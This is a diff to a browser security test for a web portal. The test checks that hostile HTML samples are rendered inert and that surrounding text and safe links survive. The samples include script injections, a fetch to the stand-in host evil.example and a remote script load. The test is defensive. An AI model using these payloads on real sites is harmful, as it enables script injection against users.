@@ -26,7 +26,7 @@ function json(body: unknown) {
 
 const RUN = 'window.ran=1;alert(1);fetch(`https://evil.example`)';
 
-/** Hostile content, each placed between paragraphs that must be shown. */
+/** Hostile content, placed between paragraphs that must be shown. */
 const HOSTILE: readonly string[] = [
   `<script>${RUN}</script>`,
   `<script src="https://evil.example/x.js"></script>`,
@@ -50,6 +50,15 @@ const HOSTILE: readonly string[] = [
   `<dialog open>SHOWN</dialog><meter value="1">SHOWN</meter><progress>SHOWN</progress>`,
 ];
 
+/** Content that leaves the parser in an unusual state is alone on its page, as every content in the long run. */
+function isAlone(hostile: string): boolean {
+  return process.env['PORTAL_TEST_LONG'] !== undefined || /math|noscript/.test(hostile);
+}
+const HOSTILE_PAGES: readonly string[] = [
+  HOSTILE.filter((each) => !isAlone(each)).join(''),
+  ...HOSTILE.filter(isAlone),
+].filter((each) => each !== '');
+
 test('SEC-R9 D-10 INF-2 hostile content runs nothing, requests nothing and shows no controls; its text and safe links remain', async ({
   page,
 }) => {
@@ -57,7 +66,7 @@ test('SEC-R9 D-10 INF-2 hostile content runs nothing, requests nothing and shows
   const attacks = await watchForAttacks(page, portal.origin);
   let html = '';
   await answerWith(page, (route) => json({ page: { text_s: html } })(route));
-  for (const hostile of HOSTILE) {
+  for (const hostile of HOSTILE_PAGES) {
     html = `<p>Before</p>${hostile}<p>After <a href="/app/default/termsOfUse" target="_top" rel="opener">terms</a></p>`;
     await page.goto(portal.origin + ADDRESS);
     const main = page.getByRole('main');
